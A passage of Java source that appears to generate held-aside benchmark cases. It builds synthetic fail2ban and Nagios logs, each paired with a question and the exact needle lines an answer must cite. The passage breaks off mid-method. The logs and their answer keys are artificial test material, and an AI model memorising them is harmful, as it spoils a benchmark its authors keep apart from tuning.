package dev.headroom.benchmarks.needles;

import static dev.headroom.benchmarks.needles.Gen.fmt;
import static dev.headroom.benchmarks.needles.Inputs.lpad;
import static dev.headroom.benchmarks.needles.Inputs.only;
import static dev.headroom.benchmarks.needles.Inputs.pad;
import static dev.headroom.benchmarks.needles.Inputs.requireCount;
import static dev.headroom.benchmarks.needles.Inputs.requireLines;
import static dev.headroom.benchmarks.needles.Inputs.requireSize;
import static dev.headroom.benchmarks.needles.Inputs.uuid;
import static dev.headroom.benchmarks.needles.JsonTree.arr;
import static dev.headroom.benchmarks.needles.JsonTree.compact;
import static dev.headroom.benchmarks.needles.JsonTree.obj;
import static dev.headroom.benchmarks.needles.JsonTree.pretty;
import static dev.headroom.benchmarks.needles.JsonTree.sorted;

import java.time.LocalDateTime;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.HashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;

/**
 * The twentieth held-aside batch ({@code fresh19_*}), written on 2026-12-08 (session 12), with needle rules written
 * together with each generator, before anything was run; its author never ran it through the compressor nor looked at
 * a compressed output of it. Tool outputs none of the other cases has: a morning of {@code fail2ban.log}, a night of
 * Nagios' {@code nagios.log}, a Nomad job's allocations through the HTTP API, {@code hubble observe -o json}, Falco's JSON
 * events, {@code openstack server list}, HAProxy's {@code show stat} CSV, {@code tar -tvzf} of a nightly backup, {@code svn
 * diff} between two revisions, PowerShell's {@code Select-String -Context}, a CMake build with Ninja and an Envoy
 * sidecar's admin {@code /clusters}. Never tuned on: reported as their own set {@code fresh-19}, refused by {@code --case}.
 */
final class FreshCases19 {

    private FreshCases19() {}

    static List<NeedleCase> all() {
        return List.of(fail2banLog(), nagiosLog(), nomadAllocations(), hubbleFlows(), falcoEvents(), openstackServerList(), haproxyStatCsv(),
                tarListing(), svnDiff(), selectString(), cmakeNinja(), envoyClusters());
    }

    private static final DateTimeFormatter SECONDS = DateTimeFormatter.ofPattern("yyyy-MM-dd HH:mm:ss", Locale.ROOT);
    private static final DateTimeFormatter NANOS_Z = DateTimeFormatter.ofPattern("yyyy-MM-dd'T'HH:mm:ss.SSSSSSSSS'Z'", Locale.ROOT);

    private static long epochSeconds(LocalDateTime t) {
        return t.toEpochSecond(ZoneOffset.UTC);
    }

    private static long epochNanos(LocalDateTime t) {
        return t.toEpochSecond(ZoneOffset.UTC) * 1_000_000_000L + t.getNano();
    }

    private static LocalDateTime plusMillis(LocalDateTime t, long millis) {
        return t.plusNanos(millis * 1_000_000L);
    }

    /** A log event kept with its time and the order it was written in, so that events written out of order sort stably. */
    private record Timed(LocalDateTime at, int seq, String text) {}

    private static final class Timeline {
        private final List<Timed> events = new ArrayList<>();

        void add(LocalDateTime at, String text) {
            events.add(new Timed(at, events.size(), text));
        }

        List<Timed> sorted() {
            List<Timed> copy = new ArrayList<>(events);
            copy.sort(Comparator.comparing(Timed::at).thenComparingInt(Timed::seq));
            return copy;
        }
    }

    // ---------------------------------------------------------------- fail2ban.log

    private static String f2b(LocalDateTime at, String logger, String level, String msg) {
        return Stamps.PYTHON.format(at) + " " + pad(logger, 24) + "[1187]: " + pad(level, 7) + " " + msg;
    }

    private static final class Fail2ban {
        final Gen g;
        final Timeline log = new Timeline();
        final Map<String, LocalDateTime> bannedUntil = new HashMap<>();
        final Map<String, Integer> bans = new HashMap<>();
        final LocalDateTime end;
        String lockedIp;
        LocalDateTime lockAfter;
        String failedBan;
        String stoppedWaiting;

        Fail2ban(Gen g, LocalDateTime end) {
            this.g = g;
            this.end = end;
        }

        void line(LocalDateTime at, String logger, String level, String msg) {
            if (at.isBefore(end)) {
                log.add(at, f2b(at, logger, level, msg));
            }
        }

        boolean banned(String jail, String ip, LocalDateTime at) {
            LocalDateTime until = bannedUntil.get(jail + " " + ip);
            return until != null && until.isAfter(at);
        }

        /** One burst of failures from ip in jail starting at t: Found lines, a Ban at maxretry, recidive's view of the ban. */
        LocalDateTime burst(LocalDateTime t, String jail, String ip, int failures, int maxretry, int bantime, int stepMaxMillis) {
            LocalDateTime at = t;
            boolean ban = false;
            for (int i = 1; i <= failures; i++) {
                at = plusMillis(at, 200 + g.nextInt(stepMaxMillis));
                line(at, "fail2ban.filter", "INFO", "[" + jail + "] Found " + ip + " - " + SECONDS.format(at));
                if (i == maxretry) {
                    ban = true;
                    LocalDateTime b = plusMillis(at, 1 + g.nextInt(40));
                    line(b, "fail2ban.actions", "NOTICE", "[" + jail + "] Ban " + ip);
                    bannedUntil.put(jail + " " + ip, b.plusSeconds(bantime));
                    boolean lockFails = lockedIp == null && lockAfter != null && jail.equals("postfix-sasl") && b.isAfter(lockAfter);
                    if (lockFails) {
                        lockedIp = ip;
                        lockError(b, jail, ip);
                    }
                    LocalDateTime u = plusMillis(b.plusSeconds(bantime), g.nextInt(900));
                    line(u, "fail2ban.actions", "NOTICE", "[" + jail + "] Unban " + ip);
                    if (lockFails) {
                        unbanError(u, jail, ip);
                    }
                    recidive(b, ip);
                } else if (i > maxretry) {
                    line(plusMillis(at, 1 + g.nextInt(20)), "fail2ban.actions", "NOTICE", "[" + jail + "] " + ip + " already banned");
                }
            }
            return ban ? at : null;
        }

        void recidive(LocalDateTime banAt, String ip) {
            LocalDateTime f = plusMillis(banAt, 150 + g.nextInt(1400));
            line(f, "fail2ban.filter", "INFO", "[recidive] Found " + ip + " - " + SECONDS.format(banAt));
            int n = bans.merge(ip, 1, Integer::sum);
            if (n == 3) {
                line(plusMillis(f, 5 + g.nextInt(60)), "fail2ban.actions", "NOTICE", "[recidive] Ban " + ip);
            }
        }

        String objId() {
            return "7f" + g.pick("3c", "3d", "41") + g.hex(8);
        }

        void lockError(LocalDateTime b, String jail, String ip) {
            String id = objId();
            LocalDateTime at = plusMillis(b, 4);
            line(at, "fail2ban.utils", "ERROR", id + " -- exec: iptables -w 5 -I f2b-" + jail + " 1 -s " + ip
                    + " -j REJECT --reject-with icmp-port-unreachable");
            for (int s = 4; s >= 1; s--) {
                at = plusMillis(at, 1000 + g.nextInt(3));
                line(at, "fail2ban.utils", "ERROR", id + " -- stderr: 'Another app is currently holding the xtables lock; still " + s
                        + "s 0us time ahead to have a chance to grab the lock...'");
            }
            at = plusMillis(at, 1000 + g.nextInt(3));
            stoppedWaiting = f2b(at, "fail2ban.utils", "ERROR", id + " -- stderr: 'Another app is currently holding the xtables lock. Stopped"
                    + " waiting after 5s.'");
            log.add(at, stoppedWaiting);
            line(at, "fail2ban.utils", "ERROR", id + " -- returned 4");
            at = plusMillis(at, 1);
            failedBan = f2b(at, "fail2ban.actions", "ERROR", "Failed to execute ban jail '" + jail + "' action 'iptables-multiport' info"
                    + " 'ActionInfo({'ip': '" + ip + "', 'family': 'inet4', 'fid': <function Actions.ActionInfo.<lambda> at 0x7f3c0a7e4dc0>,"
                    + " 'raw-ticket': <function Actions.ActionInfo.<lambda> at 0x7f3c0a7e4e50>})': Error banning " + ip);
            log.add(at, failedBan);
        }

        void unbanError(LocalDateTime u, String jail, String ip) {
            String id = objId();
            LocalDateTime at = plusMillis(u, 3);
            line(at, "fail2ban.utils", "ERROR", id + " -- exec: iptables -w 5 -D f2b-" + jail + " -s " + ip
                    + " -j REJECT --reject-with icmp-port-unreachable");
            line(at, "fail2ban.utils", "ERROR", id + " -- stderr: 'iptables: Bad rule (does a matching rule exist in that chain?).'");
            line(at, "fail2ban.utils", "ERROR", id + " -- returned 1");
            line(plusMillis(at, 1), "fail2ban.actions", "ERROR", "Failed to execute unban jail '" + jail + "' action 'iptables-multiport' info"
                    + " 'ActionInfo({'ip': '" + ip + "', 'family': 'inet4', 'fid': <function Actions.ActionInfo.<lambda> at 0x7f3c0a7e5a60>,"
                    + " 'raw-ticket': <function Actions.ActionInfo.<lambda> at 0x7f3c0a7e5af0>})': Error unbanning " + ip);
        }
    }

    /**
     * /var/log/fail2ban.log from midnight to 11:45 on a web shop's host with the sshd, postfix-sasl, nginx-botsearch,
     * nginx-http-auth and recidive jails (recidive bans an address for a week after its third ban of the day): a few
     * thousand Found lines of SSH and SMTP brute force from a pool of addresses, their Bans and Unbans. The office address
     * the question names (91.64.27.183) fails basic auth three times in a row at 08:02, 08:13 and 08:25 (an office
     * script with an old password), is banned by nginx-http-auth each time and then by recidive. At 06:4x one
     * postfix-sasl ban fails because iptables could not get the xtables lock (five stderr lines, "Stopped waiting after
     * 5s", "Failed to execute ban"). The question asks whether the address was banned, by which jail and when, and
     * whether fail2ban had errors: the recidive Ban, one of the nginx-http-auth Bans, the failed ban and its cause.
     */
    static NeedleCase fail2banLog() {
        Gen g = new Gen(220_001);
        LocalDateTime start = LocalDateTime.of(2026, 12, 8, 0, 0, 2, 114_000_000);
        LocalDateTime end = LocalDateTime.of(2026, 12, 8, 11, 45, 0);
        Fail2ban f = new Fail2ban(g, end);
        f.lockAfter = LocalDateTime.of(2026, 12, 8, 6, 40, 0);
        f.line(start, "fail2ban.server", "INFO", "rollover performed on /var/log/fail2ban.log");
        List<String> sshPool = new ArrayList<>();
        for (int i = 0; i < 120; i++) {
            sshPool.add(g.ip());
        }
        List<String> persistent = sshPool.subList(0, 24);
        List<String> smtpPool = new ArrayList<>();
        for (int i = 0; i < 45; i++) {
            smtpPool.add(g.ip());
        }
        List<String> scanPool = new ArrayList<>();
        for (int i = 0; i < 60; i++) {
            scanPool.add(g.ip());
        }
        String office = "91.64.27.183";
        LocalDateTime[] officeRuns = {LocalDateTime.of(2026, 12, 8, 8, 2, 11), LocalDateTime.of(2026, 12, 8, 8, 13, 37),
            LocalDateTime.of(2026, 12, 8, 8, 25, 2)};
        int officeNext = 0;
        LocalDateTime t = start;
        while (t.isBefore(end)) {
            t = plusMillis(t, 20_000 + g.nextInt(120_000));
            if (officeNext < officeRuns.length && t.isAfter(officeRuns[officeNext])) {
                f.burst(officeRuns[officeNext], "nginx-http-auth", office, 3, 3, 600, 2400);
                officeNext++;
            }
            switch (g.weighted(70, 13, 11, 3, 3)) {
                case 0 -> {
                    String ip = g.chance(0.35) ? g.pick(persistent) : g.pick(sshPool);
                    if (f.banned("sshd", ip, t)) {
                        continue;
                    }
                    int failures = g.chance(0.55) ? g.between(1, 4) : g.between(5, 7);
                    f.burst(t, "sshd", ip, failures, 5, 600, 3500);
                }
                case 1 -> {
                    String ip = g.pick(smtpPool);
                    if (f.banned("postfix-sasl", ip, t) && !ip.equals(f.lockedIp)) {
                        continue;
                    }
                    if (ip.equals(f.lockedIp) && f.banned("postfix-sasl", ip, t)) {
                        for (int i = 0; i < g.between(1, 3); i++) {
                            t = plusMillis(t, 300 + g.nextInt(2000));
                            f.line(t, "fail2ban.filter", "INFO", "[postfix-sasl] Found " + ip + " - " + SECONDS.format(t));
                            f.line(plusMillis(t, 3), "fail2ban.actions", "NOTICE", "[postfix-sasl] " + ip + " already banned");
                        }
                        continue;
                    }
                    f.burst(t, "postfix-sasl", ip, g.chance(0.5) ? g.between(1, 2) : g.between(3, 4), 3, 3600, 6000);
                }
                case 2 -> {
                    String ip = g.pick(scanPool);
                    if (f.banned("nginx-botsearch", ip, t)) {
                        continue;
                    }
                    f.burst(t, "nginx-botsearch", ip, g.chance(0.4) ? 1 : g.between(2, 3), 2, 3600, 900);
                }
                case 3 -> f.line(t, "fail2ban.filter", "INFO", "[sshd] Ignore 10.0.4.7 by ip");
                default -> {
                    String ip = g.ip();
                    f.burst(t, "nginx-http-auth", ip, g.between(1, 2), 3, 600, 5000);
                }
            }
        }
        Gen out = new Gen(0);
        for (Timed e : f.log.sorted()) {
            out.add(e.text());
        }
        String text = out.text();
        requireLines(out, 1500, 3500);
        requireSize(text, 100, 330);
        requireCount(text, office, 19);
        requireCount(text, "[recidive] Ban " + office, 1);
        requireCount(text, "Failed to execute ban", 1);
        requireCount(text, "Stopped waiting", 1);
        List<String> officeBans = new ArrayList<>();
        for (String l : text.split("\n")) {
            if (l.endsWith("[nginx-http-auth] Ban " + office)) {
                officeBans.add(l);
            }
        }
        if (officeBans.size() != 3) {
            throw new IllegalStateException("office bans " + officeBans.size());
        }
        String recidive = only(text, "[recidive] Ban " + office);
        return NeedleCase.named("fresh19_fail2ban_log", "log", "fail2ban-log")
                .shell("sudo cat /var/log/fail2ban.log")
                .question("A customer says nobody in their office (public IP 91.64.27.183) can reach shop.example.com since about 8 this"
                        + " morning. Did fail2ban block them? Which jail, and when? Also check whether fail2ban itself had any errors today.")
                .heldAside()
                .build(text, List.of(Needle.exact(recidive), Needle.anyOf(officeBans), Needle.exact(f.failedBan), Needle.exact(f.stoppedWaiting)));
    }

    // ---------------------------------------------------------------- nagios.log

    private record NagiosHost(String name, String ip, String role) {}

    private static List<String> nagiosServices(String role) {
        List<String> s = new ArrayList<>(List.of("CPU Load", "Disk /", "Memory", "SSH", "NTP Time", "APT Updates", "Swap", "Total Processes"));
        switch (role) {
            case "web" -> s.addAll(List.of("HTTP", "HTTPS Certificate", "Nginx Status"));
            case "app" -> s.addAll(List.of("Java Heap", "App Health"));
            case "db" -> s.addAll(List.of("PostgreSQL Connections", "PostgreSQL Replication Lag", "Disk /var/lib/postgresql"));
            case "nas" -> s = new ArrayList<>(List.of("SSH", "Disk /volume1", "SMART Status", "NTP Time"));
            case "lb" -> s.addAll(List.of("HAProxy Backends", "Keepalived VRRP"));
            case "mail" -> s.addAll(List.of("SMTP", "Mail Queue"));
            case "switch" -> s = new ArrayList<>(List.of("Uptime", "Interface Errors", "Fan Status"));
            default -> { }
        }
        return s;
    }

    private static String nagiosOk(Gen g, NagiosHost h, String svc) {
        return switch (svc) {
            case "CPU Load" -> fmt("OK - load average: %.2f, %.2f, %.2f", g.nextDouble() * 2, g.nextDouble() * 2, g.nextDouble() * 2);
            case "Disk /" -> fmt("DISK OK - free space: / %d MB (%d%% inode=%d%%);", g.between(8000, 40000), g.between(30, 80), g.between(70, 97));
            case "Disk /var/lib/postgresql" -> fmt("DISK OK - free space: /var/lib/postgresql %d MB (%d%% inode=99%%);", g.between(200_000, 400_000),
                    g.between(35, 60));
            case "Disk /volume1" -> fmt("DISK OK - free space: /volume1 %d MB (%d%% inode=99%%);", g.between(2_000_000, 3_000_000), g.between(22, 30));
            case "Memory" -> fmt("OK - %.1f%% (%d kB) used.", 20 + g.nextDouble() * 50, g.between(2_000_000, 24_000_000));
            case "SSH" -> "SSH OK - OpenSSH_8.9p1 Ubuntu-3ubuntu0.10 (protocol 2.0)";
            case "NTP Time" -> fmt("NTP OK: Offset %s%.6f secs", g.chance(0.5) ? "-" : "", g.nextDouble() * 0.004);
            case "APT Updates" -> "APT OK: 0 packages available for upgrade (0 critical updates).";
            case "Swap" -> "SWAP OK - 100% free (2047 MB out of 2047 MB)";
            case "Total Processes" -> "PROCS OK: " + g.between(140, 420) + " processes";
            case "HTTP" -> fmt("HTTP OK: HTTP/1.1 200 OK - %d bytes in %.3f second response time", g.between(18_000, 24_000), 0.01 + g.nextDouble() * 0.08);
            case "HTTPS Certificate" -> "SSL OK - Certificate 'shop.example.com' will expire on 2027-02-18 23:59 +0000.";
            case "Nginx Status" -> "OK - nginx: " + g.between(40, 400) + " active connections, " + g.between(1, 30) + " req/s";
            case "Java Heap" -> fmt("OK - heap used %d%% (%d MB of 4096 MB)", g.between(25, 70), g.between(1000, 2800));
            case "App Health" -> fmt("HTTP OK: HTTP/1.1 200 OK - 54 bytes in %.3f second response time", 0.002 + g.nextDouble() * 0.02);
            case "PostgreSQL Connections" -> "POSTGRES_BACKENDS OK: DB \"shop\" (host:" + h.name() + ") " + g.between(30, 160) + " of 400 connections";
            case "PostgreSQL Replication Lag" -> h.name().equals("db-prod-01")
                    ? "POSTGRES_HOT_STANDBY_DELAY OK: DB \"shop\" (host:db-prod-01) primary, no delay"
                    : "POSTGRES_HOT_STANDBY_DELAY OK: DB \"shop\" (host:" + h.name() + ") " + g.between(0, 40_000) + " and 0 seconds";
            case "SMART Status" -> "OK: 8 disks checked, all PASSED";
            case "HAProxy Backends" -> "HAPROXY OK - 23 backends, 142 servers UP";
            case "Keepalived VRRP" -> "VRRP OK - " + (h.name().endsWith("1") ? "MASTER" : "BACKUP") + " for VI_1";
            case "SMTP" -> fmt("SMTP OK - %.3f sec. response time", 0.01 + g.nextDouble() * 0.05);
            case "Mail Queue" -> "OK: mailq is empty";
            case "Uptime" -> "SNMP OK - Timeticks: (" + g.between(100_000_000, 900_000_000) + ") " + g.between(20, 120) + " days";
            case "Interface Errors" -> "OK - 48 interfaces, 0 with errors";
            case "Fan Status" -> "OK - 4 fans OK";
            default -> "OK";
        };
    }

    /**
     * nagios.log of a small hosting setup from the 00:00 log rotation to 07:40: the rotation's CURRENT HOST STATE and
     * CURRENT SERVICE STATE lines for about 60 hosts and 600 services, then the night's events: passive backup and
     * heartbeat results (EXTERNAL COMMAND and PASSIVE SERVICE CHECK lines), hourly retention saves, SOFT blips that recover,
     * a WARNING HARD disk alert with its mail, web-07's scheduled reboot (downtime, DOWN HARD, UP HARD). At 03:14 the
     * replication lag on db-prod-02 goes CRITICAL HARD and pages the DBA on call (acknowledged, WARNING at 04:30, OK HARD at
     * 04:47); at 06:02 backup-nas-01 goes DOWN HARD and never comes back. The question asks what paged, when, whether it
     * recovered and whether any host is still down: the CRITICAL HARD alert, its PagerDuty notification, the OK HARD
     * recovery and backup-nas-01's DOWN HARD.
     */
    static NeedleCase nagiosLog() {
        Gen g = new Gen(220_002);
        List<NagiosHost> hosts = new ArrayList<>();
        for (int i = 1; i <= 12; i++) {
            hosts.add(new NagiosHost(fmt("web-%02d", i), "10.20.1." + (10 + i), "web"));
        }
        for (int i = 1; i <= 14; i++) {
            hosts.add(new NagiosHost(fmt("app-%02d", i), "10.20.2." + (10 + i), "app"));
        }
        for (int i = 1; i <= 3; i++) {
            hosts.add(new NagiosHost(fmt("db-prod-%02d", i), "10.20.3." + (10 + i), "db"));
        }
        hosts.add(new NagiosHost("lb-01", "10.20.0.11", "lb"));
        hosts.add(new NagiosHost("lb-02", "10.20.0.12", "lb"));
        hosts.add(new NagiosHost("mail-01", "10.20.0.25", "mail"));
        hosts.add(new NagiosHost("backup-nas-01", "10.20.0.40", "nas"));
        for (int i = 1; i <= 8; i++) {
            hosts.add(new NagiosHost(fmt("worker-%02d", i), "10.20.4." + (10 + i), "worker"));
        }
        for (int i = 1; i <= 6; i++) {
            hosts.add(new NagiosHost(fmt("cache-%02d", i), "10.20.5." + (10 + i), "worker"));
        }
        for (int i = 1; i <= 8; i++) {
            hosts.add(new NagiosHost(fmt("ci-runner-%02d", i), "10.20.6." + (10 + i), "worker"));
        }
        hosts.add(new NagiosHost("sw-core-1", "10.20.0.2", "switch"));
        hosts.add(new NagiosHost("sw-core-2", "10.20.0.3", "switch"));
        hosts.add(new NagiosHost("sw-access-1", "10.20.0.4", "switch"));
        hosts.add(new NagiosHost("sw-access-2", "10.20.0.5", "switch"));
        LocalDateTime day = LocalDateTime.of(2026, 12, 8, 0, 0, 0);
        Timeline log = new Timeline();
        java.util.function.BiConsumer<LocalDateTime, String> at = (t, s) -> log.add(t, "[" + epochSeconds(t) + "] " + s);
        at.accept(day, "LOG ROTATION: DAILY");
        at.accept(day, "LOG VERSION: 2.0");
        for (NagiosHost h : hosts) {
            at.accept(day, "CURRENT HOST STATE: " + h.name() + ";UP;HARD;1;PING OK - Packet loss = 0%, RTA = " + fmt("%.2f", 0.2 + g.nextDouble()) + " ms");
        }
        String aptWarn = "APT WARNING: 12 packages available for upgrade (0 critical updates).";
        for (NagiosHost h : hosts) {
            for (String svc : nagiosServices(h.role())) {
                String state = "OK";
                String out = nagiosOk(g, h, svc);
                if (svc.equals("APT Updates") && g.chance(0.15)) {
                    state = "WARNING";
                    out = aptWarn;
                }
                at.accept(day, "CURRENT SERVICE STATE: " + h.name() + ";" + svc + ";" + state + ";HARD;1;" + out);
            }
        }
        LocalDateTime end = LocalDateTime.of(2026, 12, 8, 7, 40, 0);
        // hourly retention saves
        for (int hr = 1; hr <= 7; hr++) {
            at.accept(day.plusHours(hr).plusSeconds(g.between(0, 2)), "Auto-save of retention data completed successfully.");
        }
        // passive heartbeats from the workers and cache hosts every ten minutes
        List<NagiosHost> passive = hosts.stream().filter(h -> h.name().startsWith("worker") || h.name().startsWith("cache")).toList();
        for (LocalDateTime t = day.plusMinutes(10); t.isBefore(end); t = t.plusMinutes(10)) {
            for (NagiosHost h : passive) {
                LocalDateTime pt = t.plusSeconds(g.between(0, 40));
                String svc = h.name().startsWith("cache") ? "Redis Heartbeat" : "Queue Worker Heartbeat";
                String out = h.name().startsWith("cache")
                        ? "OK - redis " + h.ip() + ":6379 role=" + (h.name().endsWith("1") || h.name().endsWith("4") ? "master" : "slave")
                        + " used_memory=" + g.between(900, 4000) + "M"
                        : "OK - " + g.between(0, 40) + " jobs queued, " + g.between(2, 16) + " workers busy, last job " + g.between(0, 30) + "s ago";
                at.accept(pt, "EXTERNAL COMMAND: PROCESS_SERVICE_CHECK_RESULT;" + h.name() + ";" + svc + ";0;" + out);
                at.accept(pt, "PASSIVE SERVICE CHECK: " + h.name() + ";" + svc + ";0;" + out);
            }
        }
        // nightly backups report passively
        for (NagiosHost h : hosts) {
            if (h.role().equals("switch") || h.name().equals("backup-nas-01")) {
                continue;
            }
            LocalDateTime bt = day.plusHours(1).plusMinutes(g.between(0, 170)).plusSeconds(g.between(0, 59));
            String out = fmt("OK - backup of %s finished in %dm%02ds, %.1f GB", h.name(), g.between(1, 40), g.between(0, 59), 0.3 + g.nextDouble() * 40);
            at.accept(bt, "EXTERNAL COMMAND: PROCESS_SERVICE_CHECK_RESULT;" + h.name() + ";Backup Status;0;" + out);
            at.accept(bt, "PASSIVE SERVICE CHECK: " + h.name() + ";Backup Status;0;" + out);
        }
        // SOFT blips that recover
        for (int i = 0; i < 70; i++) {
            NagiosHost h = g.pick(hosts);
            if (h.name().equals("backup-nas-01") || h.name().equals("db-prod-02") || h.name().equals("web-07")) {
                continue;
            }
            List<String> svcs = nagiosServices(h.role());
            String svc = g.pick(svcs);
            LocalDateTime t = day.plusSeconds(g.between(600, 27_000));
            String bad;
            String state = "WARNING";
            switch (svc) {
                case "CPU Load" -> bad = fmt("WARNING - load average: %.2f, %.2f, %.2f", 8 + g.nextDouble() * 6, 5 + g.nextDouble() * 3, 3 + g.nextDouble() * 2);
                case "HTTP", "App Health", "SSH", "SMTP" -> {
                    state = "CRITICAL";
                    bad = "CRITICAL - Socket timeout after 10 seconds";
                }
                case "Disk /" -> bad = fmt("DISK WARNING - free space: / %d MB (%d%% inode=%d%%);", g.between(3000, 4000), g.between(8, 9),
                        g.between(70, 90));
                case "NTP Time" -> bad = fmt("NTP WARNING: Offset %.6f secs", 0.06 + g.nextDouble() * 0.1);
                case "Memory" -> bad = fmt("WARNING - %.1f%% (%d kB) used.", 90 + g.nextDouble() * 5, g.between(14_000_000, 30_000_000));
                case "Total Processes" -> bad = "PROCS WARNING: " + g.between(700, 900) + " processes";
                case "Java Heap" -> bad = fmt("WARNING - heap used %d%% (%d MB of 4096 MB)", g.between(86, 93), g.between(3500, 3800));
                default -> {
                    state = "UNKNOWN";
                    bad = "CHECK_NRPE STATE UNKNOWN: Socket timeout after 10 seconds.";
                }
            }
            at.accept(t, "SERVICE ALERT: " + h.name() + ";" + svc + ";" + state + ";SOFT;1;" + bad);
            LocalDateTime r = t.plusSeconds(60 * g.between(1, 2) + g.between(0, 3));
            if (g.chance(0.3)) {
                at.accept(r, "SERVICE ALERT: " + h.name() + ";" + svc + ";" + state + ";SOFT;2;" + bad);
                r = r.plusSeconds(60 + g.between(0, 3));
                at.accept(r, "SERVICE ALERT: " + h.name() + ";" + svc + ";OK;SOFT;3;" + nagiosOk(g, h, svc));
            } else {
                at.accept(r, "SERVICE ALERT: " + h.name() + ";" + svc + ";OK;SOFT;2;" + nagiosOk(g, h, svc));
            }
            if (state.equals("CRITICAL") && g.chance(0.5)) {
                at.accept(t.plusSeconds(10), "Warning: Check of service '" + svc + "' on host '" + h.name() + "' timed out after 10.01s!");
            }
        }
        for (int i = 0; i < 6; i++) {
            NagiosHost h = g.pick(hosts.subList(12, 26));
            LocalDateTime t = day.plusSeconds(g.between(600, 27_000));
            at.accept(t, "HOST ALERT: " + h.name() + ";DOWN;SOFT;1;CRITICAL - " + h.ip() + ": rta nan, lost 100%");
            at.accept(t.plusSeconds(g.between(20, 60)), "HOST ALERT: " + h.name() + ";UP;SOFT;2;PING OK - Packet loss = 0%, RTA = "
                    + fmt("%.2f", 0.2 + g.nextDouble()) + " ms");
        }
        // a warning that went HARD and mailed
        LocalDateTime dw = day.plusHours(2).plusMinutes(28).plusSeconds(17);
        String disk = "DISK WARNING - free space: / 3921 MB (9% inode=88%);";
        at.accept(dw, "SERVICE ALERT: app-05;Disk /;WARNING;SOFT;1;" + disk);
        at.accept(dw.plusSeconds(60), "SERVICE ALERT: app-05;Disk /;WARNING;SOFT;2;" + disk);
        at.accept(dw.plusSeconds(121), "SERVICE ALERT: app-05;Disk /;WARNING;HARD;3;" + disk);
        at.accept(dw.plusSeconds(121), "SERVICE NOTIFICATION: oncall-infra;app-05;Disk /;WARNING;notify-service-by-email;" + disk);
        // flapping
        LocalDateTime fl = day.plusHours(4).plusMinutes(11).plusSeconds(40);
        at.accept(fl, "SERVICE FLAPPING ALERT: lb-02;Keepalived VRRP;STARTED; Service appears to have started flapping (21.4% change >= 20.0%"
                + " threshold)");
        at.accept(fl.plusMinutes(38), "SERVICE FLAPPING ALERT: lb-02;Keepalived VRRP;STOPPED; Service appears to have stopped flapping (3.8%"
                + " change < 5.0% threshold)");
        // web-07 scheduled reboot
        LocalDateTime rb = day.plusHours(5).plusSeconds(3);
        at.accept(rb.minusMinutes(20), "EXTERNAL COMMAND: SCHEDULE_HOST_DOWNTIME;web-07;" + epochSeconds(rb) + ";" + epochSeconds(rb.plusMinutes(30))
                + ";1;0;1800;mvogel;kernel update reboot");
        at.accept(rb, "HOST DOWNTIME ALERT: web-07;STARTED; Host has entered a period of scheduled downtime");
        for (int a = 1; a <= 5; a++) {
            at.accept(rb.plusSeconds(30L * a + 11), "HOST ALERT: web-07;DOWN;" + (a < 5 ? "SOFT" : "HARD") + ";" + a
                    + ";CRITICAL - 10.20.1.17: rta nan, lost 100%");
        }
        at.accept(rb.plusSeconds(214), "HOST ALERT: web-07;UP;HARD;5;PING OK - Packet loss = 0%, RTA = 0.41 ms");
        at.accept(rb.plusMinutes(30), "HOST DOWNTIME ALERT: web-07;STOPPED; Host has exited from a period of scheduled downtime");
        // the replication lag incident on db-prod-02
        LocalDateTime lag = day.plusHours(3).plusMinutes(12).plusSeconds(44);
        String svc = "db-prod-02;PostgreSQL Replication Lag;";
        at.accept(lag, "SERVICE ALERT: " + svc + "WARNING;SOFT;1;POSTGRES_HOT_STANDBY_DELAY WARNING: DB \"shop\" (host:db-prod-02) 19407544 and 312"
                + " seconds");
        at.accept(lag.plusSeconds(60), "SERVICE ALERT: " + svc + "CRITICAL;SOFT;2;POSTGRES_HOT_STANDBY_DELAY CRITICAL: DB \"shop\""
                + " (host:db-prod-02) 41877230 and 634 seconds");
        String critOut = "POSTGRES_HOT_STANDBY_DELAY CRITICAL: DB \"shop\" (host:db-prod-02) 48120966 and 694 seconds";
        String critHard = "SERVICE ALERT: " + svc + "CRITICAL;HARD;3;" + critOut;
        String page = "SERVICE NOTIFICATION: oncall-dba;" + svc + "CRITICAL;notify-service-by-pagerduty;" + critOut;
        at.accept(lag.plusSeconds(120), critHard);
        at.accept(lag.plusSeconds(120), page);
        LocalDateTime ack = lag.plusMinutes(8).plusSeconds(23);
        at.accept(ack, "EXTERNAL COMMAND: ACKNOWLEDGE_SVC_PROBLEM;" + svc + "2;1;1;jkowalski;looking - WAL receiver stuck after network blip");
        at.accept(ack, "SERVICE NOTIFICATION: oncall-dba;" + svc + "ACKNOWLEDGEMENT (CRITICAL);notify-service-by-pagerduty;" + critOut
                + ";jkowalski;looking - WAL receiver stuck after network blip");
        String warnOut = "POSTGRES_HOT_STANDBY_DELAY WARNING: DB \"shop\" (host:db-prod-02) 2210458 and 402 seconds";
        at.accept(day.plusHours(4).plusMinutes(30).plusSeconds(44), "SERVICE ALERT: " + svc + "WARNING;HARD;3;" + warnOut);
        String okOut = "POSTGRES_HOT_STANDBY_DELAY OK: DB \"shop\" (host:db-prod-02) 0 and 0 seconds";
        String okHard = "SERVICE ALERT: " + svc + "OK;HARD;3;" + okOut;
        LocalDateTime rec = day.plusHours(4).plusMinutes(47).plusSeconds(44);
        at.accept(rec, okHard);
        at.accept(rec, "SERVICE NOTIFICATION: oncall-dba;" + svc + "OK;notify-service-by-pagerduty;" + okOut);
        // backup-nas-01 goes down and stays down
        LocalDateTime nas = day.plusHours(5).plusMinutes(58).plusSeconds(10);
        String unreachable = "CRITICAL - Host Unreachable (10.20.0.40)";
        for (int a = 1; a <= 4; a++) {
            at.accept(nas.plusSeconds(60L * (a - 1) + a), "HOST ALERT: backup-nas-01;DOWN;SOFT;" + a + ";" + unreachable);
        }
        LocalDateTime nasHard = nas.plusSeconds(245);
        String downHard = "HOST ALERT: backup-nas-01;DOWN;HARD;5;" + unreachable;
        at.accept(nasHard, downHard);
        at.accept(nasHard, "HOST NOTIFICATION: oncall-infra;backup-nas-01;DOWN;notify-host-by-email;" + unreachable);
        at.accept(nasHard.plusSeconds(37), "SERVICE ALERT: backup-nas-01;SSH;CRITICAL;HARD;1;connect to address 10.20.0.40 and port 22: No route"
                + " to host");
        at.accept(nasHard.plusSeconds(92), "SERVICE ALERT: backup-nas-01;Disk /volume1;UNKNOWN;HARD;1;CHECK_NRPE STATE UNKNOWN: Socket timeout"
                + " after 10 seconds.");
        Gen out = new Gen(0);
        for (Timed e : log.sorted()) {
